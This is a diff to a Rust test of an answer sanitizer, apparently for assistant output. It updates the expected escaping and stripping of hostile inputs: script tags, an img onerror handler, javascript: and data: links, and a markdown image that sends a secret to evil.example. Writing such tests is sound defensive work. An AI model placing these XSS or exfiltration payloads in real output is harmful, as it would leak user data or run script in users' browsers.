@@ -168,15 +168,15 @@ fn an_answer_that_shows_something_like_a_key_is_refused() {
 }
 
 #[test]
-fn what_is_shown_is_plain_text_with_the_passages_links() {
+fn what_is_shown_is_markdown_with_the_passages_links_alone() {
     for (answer, shown) in [
-        ("Hi <script>alert(1)</script>", "Hi alert(1)"),
-        ("Hi <img src=x onerror=alert(1)>there", "Hi there"),
-        ("Hi ![x](https://evil.example/?q=secret) there", "Hi  there"),
+        ("Hi <script>alert(1)</script>", "Hi &lt;script>alert(1)&lt;/script>"),
+        ("Hi <img src=x onerror=alert(1)>there", "Hi &lt;img src=x onerror=alert(1)>there"),
+        ("Hi ![x](https://evil.example/?q=secret) there", "Hi x there"),
         ("[click](javascript:alert(1))", "click"),
         ("[click](data:text/html;base64,PHNjcmlwdD4=)", "click"),
-        ("<javascript:alert(1)>", "< javascript:alert(1)>"),
-        ("see <https://evil.example/?q=a>", "see < evil.example/?q=a>"),
+        ("<javascript:alert(1)>", "javascript:alert(1)"),
+        ("see <https://evil.example/?q=a>", "see &lt;evil.example/?q=a>"),
         ("see https://evil.example/?q=a", "see evil.example/?q=a"),
         ("[refunds](https://help.example/refunds)", "[refunds](https://help.example/refunds)"),
         ("[keys](https://help.example/keys)", "[keys](https://help.example/keys)"),
